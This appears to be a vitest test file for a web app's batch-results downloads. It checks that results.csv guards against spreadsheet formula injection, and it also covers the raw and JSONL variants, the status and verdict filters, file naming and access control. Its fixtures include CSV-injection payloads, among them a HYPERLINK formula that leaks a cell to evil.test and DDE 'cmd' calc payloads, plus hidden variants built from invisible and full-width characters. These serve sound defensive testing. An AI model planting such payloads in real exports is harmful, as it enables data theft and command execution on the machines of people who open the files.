import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resultLineSchema } from "@/lib/api/batches";
import { exportPool } from "@/server/http/export";
import { makeThread, makeUser, setupApiDatabase, type TestUser, workerAlive } from "../api/helpers";
import { startWebServer, type WebServer } from "../helpers/web-server";

/**
 * What the two downloads hold, over real HTTP: results.csv is made for a spreadsheet (every cell
 * that would start a formula, header names included, gets a leading '), `?raw=1` gives it
 * verbatim, results.jsonl is exact; both follow the panel's `?status=&verdict=` filters (bad
 * values 400 naming the field), carry `expected`, and are named batch-<id>-results.*.
 */

const tdb = await setupApiDatabase();
let server: WebServer;
let alice: TestUser;
let mallory: TestUser;
let threadId: string;
let batchId: string;

/** What an attacker puts in a record: each starts a formula in a spreadsheet, or a tab / CR that some read as one. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

beforeAll(async () => {
  server = await startWebServer();
  alice = await makeUser(tdb, "sheet");
  mallory = await makeUser(tdb, "mallory");
  threadId = await makeThread(tdb, alice);
  await workerAlive(tdb);
  const items = FORMULAS.map((f, i) => ({ item_key: i === 0 ? "=key()" : `k${i}`, "=cmd": f, note: i, expected: i % 2 ? f : { label: f } }));
  items.push({ item_key: "plain", "=cmd": "safe text", note: -7, expected: { label: "ok" } });
  const res = await http("POST", `/api/threads/${threadId}/subagent-batches`, alice, {
    submission_key: "sheet",
    items,
    prompt_template: "Classify {{=cmd}} ({{note}})",
    output_schema: { type: "object", properties: { "@label": { type: "string" }, score: { type: "number" } } },
    checks: [{ name: "-looks_ok", type: "regex", pattern: "x", path: "/@label" }],
  });
  expect(res.status, await res.clone().text()).toBe(201);
  batchId = ((await res.json()) as { id: string }).id;
  // Settled as a worker leaves them: answers carrying the formulas, a failed item's error, a negative score.
  for (const [i, f] of FORMULAS.entries())
    await tdb.sql`
      update subagent_batch_items
         set status = ${i === 5 ? "failed" : "succeeded"}, attempts = 1,
             output = ${i === 5 ? null : JSON.stringify({ "@label": f, score: -i })}::jsonb,
             checks = ${i === 5 ? null : JSON.stringify([{ name: "-looks_ok", passed: i % 2 === 0 }])}::jsonb,
             verdict = ${i === 5 ? null : i % 2 === 0 ? "passed" : "failed"},
             error = ${i === 5 ? `-${f}` : null}, started_at = now(), finished_at = now()
       where batch_id = ${batchId} and position = ${i + 1}`;
});

afterAll(async () => {
  await server.close();
  await exportPool().end({ timeout: 5 });
});

function http(method: string, path: string, user: TestUser, json?: unknown): Promise<Response> {
  return fetch(`${server.origin}${path}`, {
    method,
    headers: { authorization: `Bearer ${user.token}`, ...(json === undefined ? {} : { "content-type": "application/json" }) },
    body: json === undefined ? undefined : JSON.stringify(json),
  });
}

const download = (file: string, query = "", user = alice) =>
  http("GET", `/api/threads/${threadId}/subagent-batches/${batchId}/${file}${query ? `?${query}` : ""}`, user);

async function table(query = ""): Promise<{ header: string[]; rows: Record<string, string>[]; text: string }> {
  const res = await download("results.csv", query);
  expect(res.status).toBe(200);
  const text = await res.text();
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data as [string[], ...string[][]];
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]!]))), text };
}

async function lines(query = "") {
  const res = await download("results.jsonl", query);
  expect(res.status).toBe(200);
  const text = await res.text();
  return text
    .trimEnd()
    .split("\n")
    .filter(Boolean)
    .map((l) => resultLineSchema.parse(JSON.parse(l)));
}

/** What a spreadsheet must be given for a cell: text that starts like a formula gets a leading '. */
const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

describe("results.csv for a spreadsheet", () => {
  it("puts a leading ' before every cell that starts with = + - @, a tab or a CR, header names included", async () => {
    const { header, rows, text } = await table();
    expect(header).toEqual([
      "item_key",
      "status",
      "'=cmd",
      "note",
      "expected",
      "'@label",
      "score",
      "'-looks_ok",
      "verdict",
      "attempts",
      "input_tokens",
      "output_tokens",
      "cached_input_tokens",
      "cache_write_tokens",
      "cost_usd",
      "duration_ms",
      "error",
      "review_state",
      "review_note",
      "reviewed_output.@label",
      "reviewed_output.score",
    ]);
    expect(rows.map((r) => r.item_key)).toEqual(["'=key()", "k1", "k2", "k3", "k4", "k5", "plain"]);
    for (const [i, f] of FORMULAS.entries()) {
      const row = rows[i]!;
      expect(row["'=cmd"], f).toBe(guarded(f));
      expect(row.expected, f).toBe(i % 2 ? guarded(f) : JSON.stringify({ label: f }));
      if (i < 5) {
        expect(row["'@label"], f).toBe(guarded(f));
        // A negative number is a formula's start too: quoted text with the '.
        expect(row.score, f).toBe(i === 0 ? "0" : `'-${i}`);
      }
    }
    expect(rows[5]!.error).toBe(`'-${FORMULAS[5]}`);
    expect(rows[6]).toMatchObject({ "'=cmd": "safe text", note: "'-7", expected: '{"label":"ok"}', "'@label": "" });
    // No cell of the file starts a formula: each one starts with a quote, a digit, a letter or nothing.
    for (const record of Papa.parse<string[]>(text, { skipEmptyLines: true }).data)
      for (const cell of record) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it("?raw=1 gives every cell verbatim; results.jsonl is always exact", async () => {
    const { header, rows } = await table("raw=1");
    expect(header.slice(0, 8)).toEqual(["item_key", "status", "=cmd", "note", "expected", "@label", "score", "-looks_ok"]);
    for (const [i, f] of FORMULAS.entries()) {
      expect(rows[i]!["=cmd"]).toBe(f);
      expect(rows[i]!.expected).toBe(i % 2 ? f : JSON.stringify({ label: f }));
    }
    expect(rows[0]!.item_key).toBe("=key()");
    expect(rows[6]!.note).toBe("-7");
    const exact = await lines();
    expect(exact.map((l) => l.item_key)).toEqual(["=key()", "k1", "k2", "k3", "k4", "k5", "plain"]);
    for (const [i, f] of FORMULAS.entries()) {
      expect((exact[i]!.input as Record<string, unknown>)["=cmd"]).toBe(f);
      expect(exact[i]!.expected).toEqual(i % 2 ? f : { label: f });
      if (i < 5) expect(exact[i]!.output).toEqual({ "@label": f, score: i === 0 ? 0 : -i });
    }
    expect(exact[5]!.error).toBe(`-${FORMULAS[5]}`);
  });

  it("refuses a raw value other than 1 or 0, and raw on results.jsonl", async () => {
    for (const [file, query, message] of [
      ["results.csv", "raw=yes", /^raw: must be 1/],
      ["results.jsonl", "raw=1", /^raw: unknown query parameter/],
    ] as const) {
      const res = await download(file, query);
      expect(res.status).toBe(400);
      expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(message);
    }
  });
});

describe("formulas behind what a spreadsheet trims, and in full-width forms", () => {
  /**
   * Each is evaluated by some spreadsheet: leading spaces and line feeds are trimmed, invisible
   * format characters (soft hyphen, word joiner, zero-width space and joiner) ignored, the minus
   * sign − and full-width ＝ ＋ － ＠ read as - = + @.
   */
  const HIDDEN = [" =1+1", "  @SUM(A1)", "\n=HYPERLINK(\"http://evil.test\")", "\u00a0+1", "\u3000=1", "＝HYPERLINK(\"x\")", "＋1", "－1", "＠SUM(1)", " ＝1", "\ufeff=1", "\u000b=1", "\u22121", "\u00ad=1", "\u2060+1", "\u200b\u200d@SUM(A1)", " \u00ad\u2212A1"];
  const HARMLESS = [" plain", "a=b", "\u3000text", "1-2", "\u200fשלום", "\u00adtext"];

  it("guards every one of them in cells and header names, leaves text that only starts with a space alone, and raw keeps all verbatim", async () => {
    const cells = [...HIDDEN, ...HARMLESS];
    const res = await http("POST", `/api/threads/${threadId}/subagent-batches`, alice, {
      submission_key: "hidden-formulas",
      items: cells.map((c, i) => ({ item_key: `h${i}`, cell: c })),
      prompt_template: "Say {{cell}}",
      output_schema: { type: "object", properties: { " =label": { type: "string" }, "＠sum": { type: "string" } } },
    });
    expect(res.status, await res.clone().text()).toBe(201);
    const id = ((await res.json()) as { id: string }).id;
    for (const [i, c] of cells.entries())
      await tdb.sql`
        update subagent_batch_items set status = 'succeeded', attempts = 1, started_at = now(), finished_at = now(),
               output = ${JSON.stringify({ " =label": c, "＠sum": c })}::jsonb
         where batch_id = ${id} and position = ${i + 1}`;
    const get = async (query: string) => {
      const r = await http("GET", `/api/threads/${threadId}/subagent-batches/${id}/results.csv${query}`, alice);
      expect(r.status).toBe(200);
      const parsed = Papa.parse<string[]>(await r.text(), { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const [header, ...rows] = parsed.data as [string[], ...string[][]];
      return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]!]))) };
    };
    const { header, rows } = await get("");
    expect(header.slice(0, 6)).toEqual(["item_key", "status", "cell", "expected", "' =label", "'＠sum"]);
    for (const [i, c] of cells.entries()) {
      const want = i < HIDDEN.length ? `'${c}` : c;
      expect(rows[i]!.cell, JSON.stringify(c)).toBe(want);
      expect(rows[i]!["' =label"], JSON.stringify(c)).toBe(want);
      expect(rows[i]!["'＠sum"], JSON.stringify(c)).toBe(want);
    }
    const raw = await get("?raw=1");
    expect(raw.header.slice(0, 6)).toEqual(["item_key", "status", "cell", "expected", " =label", "＠sum"]);
    for (const [i, c] of cells.entries()) expect(raw.rows[i]!.cell).toBe(c);
  });
});

describe("both downloads follow the panel's filters", () => {
  it("?status= and ?verdict= select the same items in results.csv and results.jsonl", async () => {
    const cases: [string, string[]][] = [
      ["", ["=key()", "k1", "k2", "k3", "k4", "k5", "plain"]],
      ["status=failed", ["k5"]],
      ["status=succeeded", ["=key()", "k1", "k2", "k3", "k4"]],
      ["verdict=failed", ["k1", "k3"]],
      ["verdict=passed", ["=key()", "k2", "k4"]],
      ["status=succeeded&verdict=failed", ["k1", "k3"]],
      ["status=queued", ["plain"]],
      ["status=running", []],
    ];
    for (const [query, keys] of cases) {
      expect((await lines(query)).map((l) => l.item_key), query).toEqual(keys);
      const { rows } = await table(`${query}${query ? "&" : ""}raw=1`);
      expect(rows.map((r) => r.item_key), query).toEqual(keys);
    }
    // Files use the API's words (succeeded, not the screen's Done), results.csv as results.jsonl, raw or not.
    for (const query of ["", "raw=1"])
      expect((await table(query)).rows.map((r) => r.status), query).toEqual(["succeeded", "succeeded", "succeeded", "succeeded", "succeeded", "failed", "queued"]);
    expect((await lines("status=failed")).map((l) => l.status)).toEqual(["failed"]);
    // An empty selection still has the header row.
    expect((await table("status=running")).header[0]).toBe("item_key");
  });

  it("refuses a bad value naming the field (the items page's words), an unknown or repeated parameter", async () => {
    const items = await http("GET", `/api/threads/${threadId}/subagent-batches/${batchId}/items?status=done`, alice);
    const itemsMessage = ((await items.json()) as { error: { message: string } }).error.message;
    for (const file of ["results.csv", "results.jsonl"])
      for (const [query, message] of [
        ["status=done", itemsMessage],
        ["verdict=maybe", /^verdict: must be one of passed, failed/],
        ["status=failed&status=succeeded", /^status: given more than once/],
        ["cursor=abc", /^cursor: unknown query parameter/],
      ] as const) {
        const res = await download(file, query);
        expect(res.status, `${file}?${query}`).toBe(400);
        const error = ((await res.json()) as { error: { code: string; message: string } }).error;
        expect(error.code).toBe("validation_failed");
        expect(error.message).toMatch(message);
      }
    expect(itemsMessage).toMatch(/^status: must be one of /);
  });

  it("names the files batch-<id>-results.csv (verbatim: .raw.csv) and batch-<id>-results.jsonl, a filtered one after its filters; another user's batch is 404", async () => {
    for (const [file, query, named] of [
      ["results.csv", "", "results.csv"],
      ["results.csv", "raw=0", "results.csv"],
      ["results.csv", "status=failed", "results.failed.csv"],
      ["results.csv", "verdict=failed&raw=0", "results.verdict-failed.csv"],
      ["results.csv", "verdict=failed&raw=1", "results.verdict-failed.raw.csv"],
      ["results.csv", "status=succeeded&verdict=passed", "results.succeeded.verdict-passed.csv"],
      ["results.jsonl", "", "results.jsonl"],
      ["results.jsonl", "status=failed", "results.failed.jsonl"],
    ]) {
      const res = await download(file!, query);
      const name = `batch-${batchId}-${named}`;
      expect(res.status, `${file}?${query}`).toBe(200);
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
      // Read whole: a cancelled body frees its export slot a moment later, and the next download
      // (two per user at a time) could meet a 429 it did not earn.
      await res.text();
    }
    for (const file of ["results.csv", "results.jsonl"]) expect((await download(file, "", mallory)).status).toBe(404);
  });
});

describe("expected in the downloads", () => {
  it("a batch of string items has no expected column in CSV and expected null in JSONL", async () => {
    const res = await http("POST", `/api/threads/${threadId}/subagent-batches`, alice, { submission_key: "strings", items: ["a", "b"] });
    const id = ((await res.json()) as { id: string }).id;
    const csv = await (await http("GET", `/api/threads/${threadId}/subagent-batches/${id}/results.csv`, alice)).text();
    expect(csv.split("\r\n")[0]).toBe('"item_key","status","input","result","verdict","attempts","input_tokens","output_tokens","cached_input_tokens","cache_write_tokens","cost_usd","duration_ms","error","review_state","review_note","reviewed_output"');
    const jsonl = await (await http("GET", `/api/threads/${threadId}/subagent-batches/${id}/results.jsonl`, alice)).text();
    expect(jsonl.trimEnd().split("\n").map((l) => JSON.parse(l).expected)).toEqual([null, null]);
  });
});
